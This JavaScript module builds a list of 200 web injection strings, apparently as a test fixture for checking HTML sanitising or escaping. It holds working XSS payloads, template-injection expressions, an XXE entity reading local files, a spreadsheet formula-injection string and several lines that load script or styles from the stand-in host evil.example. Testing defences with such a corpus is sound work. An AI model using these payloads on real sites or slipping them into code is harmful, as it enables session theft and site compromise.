// Two hundred names that are code somewhere: HTML, attributes, addresses, templates, styles.
const CALL = 'window.attacked=1';
const TAGS = [
  'img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'video src=x onerror',
  'audio src=x onerror', 'details open ontoggle', 'marquee onstart', 'iframe onload', 'object onerror',
  'a href=x onclick', 'select autofocus onfocus', 'textarea autofocus onfocus', 'button onclick',
  'form onsubmit', 'style onload', 'link rel=stylesheet href=x onerror', 'math onmouseover',
  'embed src=x onerror', 'x onpointerenter',
];
const FRAMES = [
  (code) => `<${code}>`,
  (code) => `"><${code}>`,
  (code) => `'><${code}>`,
  (code) => `</title><${code}>`,
  (code) => `</textarea><${code}>`,
  (code) => `--><${code}>`,
  (code) => `]]><${code}>`,
];
const OTHERS = [
  `<script>${CALL}</script>`, `</script><script>${CALL}</script>`, `<script src=//evil.example></script>`,
  `<script type=module>${CALL}</script>`, `<script src=data:,${CALL}></script>`,
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`, `" onmouseover="${CALL}`, `' onfocus='${CALL}' autofocus='`, '`onerror=`',
  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{%${CALL}%}`,
  `[[${CALL}]]`, `@{${CALL}}`, 'expression(alert(1))', 'background:url(javascript:alert(1))',
  'red;background:url(//evil.example/x)', '</style><style>*{display:none}</style>',
  '<style>@import "//evil.example";</style>', '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<iframe srcdoc="<script>parent.attacked=1</script>">', '<svg><script>window.attacked=1</script></svg>',
  '<svg><animate onbegin=window.attacked=1 attributeName=x>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>', '<form action=//evil.example><input name=x>',
  '<a href="javascript:alert(1)">x</a>', '<img src="//evil.example/x">', '<img srcset="//evil.example/x 1x">',
  '<object data="data:text/html,x">', '<embed src="data:text/html,x">', '<portal src=x>', '<bdo dir=rtl>x</bdo>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '\\x3cscript\\x3e', '\\u003cscript\\u003e',
  '%3Cscript%3E', '+ADw-script+AD4-', '\ufeff<script>', '<scr<script>ipt>', '<\0script>', '<!--><script>x</script>',
  '<![CDATA[<script>x</script>]]>', '<?xml version="1.0"?><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]>&e;',
  '__proto__', 'constructor', 'toString', '=cmd|x!A1', '\u202egnp.exe', 'a\u200bb',
];

export const PAYLOADS = [
  ...TAGS.flatMap((tag) => FRAMES.map((frame) => frame(`${tag}=${CALL}`))),
  ...OTHERS,
].slice(0, 200);
